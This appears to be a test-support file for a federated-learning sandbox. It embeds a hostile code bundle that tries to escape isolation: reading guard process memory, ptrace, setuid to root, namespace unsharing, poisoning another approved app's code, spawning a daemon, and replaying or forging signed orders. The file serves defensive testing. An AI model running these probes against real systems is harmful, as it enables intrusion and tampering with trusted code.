"""What a bundle does that a site's board approved by mistake: the code that the veto's tests ship.

It tries each thing at its import and while it handles a message, and prints what came of it. The tests read
that from the executor's log, to which a courier's output goes.

Nothing here may harm the machine that it runs on, for the day on which a sandbox does not hold: outside the
test's own folder it opens and asks, and never writes, unmounts or ends anything.
"""

from __future__ import annotations

ATTACK = '''
"""Everything that code in a bundle can try against the hospital that runs it."""
import ctypes, json, os, socket, subprocess, time
from pathlib import Path
from client import target

found = {}

def attempt(name, act):
    try:
        found[name] = {"got": repr(act())[:300]}
    except BaseException as error:
        found[name] = {"denied": type(error).__name__}

def tell():
    print("PROBE " + json.dumps(found), flush=True)

def processes():
    ids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    return [Path(f"/proc/{number}/cmdline").read_text() for number in ids]

def ptrace():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, target.GUARD, 0, 0) != 0:  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), "ptrace")

def own_namespace():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x00020000) != 0:  # CLONE_NEWNS, the first step to other mounts
        raise OSError(ctypes.get_errno(), "unshare")

def acquire(secret=False):
    from flwr.proto.runtime_pb2 import AcquireTaskRequest
    from flwr.supercore.interceptors import RuntimeVersionHttpInterceptor
    from flwr.supercore.runtime import RuntimeHttpClient
    link = RuntimeHttpClient.from_server_address(
        server_address=target.NODE, insecure=True, root_certificates=None,
        interceptors=[RuntimeVersionHttpInterceptor(component_name="SuperExec")],
    )
    return link.AcquireTask(AcquireTaskRequest(supported_task_types=["flwr-clientapp"]))

def append(path, text):
    with open(path, "a") as file:
        file.write(text)

def poison():
    """Code for whoever runs the approved bundle next, where Flower would take it for installed."""
    apps = Path(os.environ["FLWR_HOME"]) / "apps"
    own = [path for path in apps.iterdir()]
    victim = apps / own[0].name.replace(own[0].name[-8:], target.APPROVED[:8])
    subprocess.run(["cp", "-r", str(own[0]), str(victim)], check=True)
    (victim / "client" / "app.py").write_text("print('POISONED', flush=True)")
    return sorted(path.name for path in apps.iterdir())

def daemon():
    """A process that wants to outlive its task."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(400):
                print(f"DAEMON {number}", flush=True)
                time.sleep(0.25)
        os._exit(0)

for label, path in target.READ.items():
    attempt(f"read {label}", lambda: Path(path).read_bytes()[:40])
for label, path in target.LIST.items():
    attempt(f"list {label}", lambda: os.listdir(path))
for label, path in target.OPEN.items():
    attempt(f"open {label}", lambda: os.close(os.open(path, os.O_WRONLY)))
for label, path in target.APPEND.items():
    attempt(f"append {label}", lambda: append(path, "00" * 32))
attempt("guard memory", lambda: open(f"/proc/{target.GUARD}/mem", "rb").read(1))
attempt("guard environment", lambda: open(f"/proc/{target.GUARD}/environ", "rb").read(1))
attempt("guard files", lambda: os.listdir(f"/proc/{target.GUARD}/fd"))
attempt("ptrace", ptrace)
attempt("signal the guard", lambda: os.kill(target.GUARD, 0))
attempt("signal the executor", lambda: os.kill(target.EXECUTOR, 0))
attempt("be root", lambda: os.setuid(0))
attempt("chroot", lambda: os.chroot("/"))
attempt("mounts", own_namespace)
attempt("end the socket", lambda: os.unlink(target.SOCKET))
attempt("another task", acquire)
attempt("processes", processes)
attempt("network", socket.if_nameindex)
attempt("superlink", lambda: socket.create_connection(("127.0.0.1", target.SUPERLINK), 5))
attempt("hospital network", lambda: socket.create_connection(("192.0.2.1", 80), 5))
attempt("environment", lambda: sorted(os.environ))
attempt("poison", poison)
attempt("fake guard", lambda: __import__("client.guard").guard.open_guard(target.HOME).read())
daemon()
tell()

from common import wire
from common.wire import desk
honest = desk.ask

def lying(address, stage, order, content):
    packed = wire.pack_content(content)
    first = honest(address, stage, order, content)
    for name, again in (("replay", packed), ("replay as another stage", packed)):
        other = stage if name == "replay" else type(stage)("adapt")
        refused = wire.decode_refusal(honest(address, other, order, wire.unpack_content(again)))
        found[name] = {"refused": None if refused is None else [refused.code, refused.field]}
    fresh = wire.unpack_content(packed)
    fresh["order"]["json"] = fresh["order"]["json"].replace(order.nonce, "f" * 32)
    fresh["order"]["json"] = fresh["order"]["json"].replace(order.plan_sha256, "e" * 64)
    fresh["order"]["json"] = fresh["order"]["json"].replace('"stage":"propose"', '"stage":"style"')
    refused = wire.decode_refusal(honest(address, type(stage)("style"), order, fresh))
    found["order of its own"] = {"refused": None if refused is None else [refused.code, refused.field]}
    tell()
    first["body"]["json"] = first["body"]["json"].replace('"rank":', '"rank":1')
    return first

desk.ask = lying
'''

FAKE_GUARD = '''
"""A guard of the bundle's own, in the place of the site's."""
from pathlib import Path

class Guard:
    def __init__(self, folder):
        self.folder = Path(folder)
    def read(self):
        return [(path.name, path.read_bytes()[:20]) for path in (self.folder / "data").iterdir()]

def open_guard(folder):
    return Guard(folder)
'''
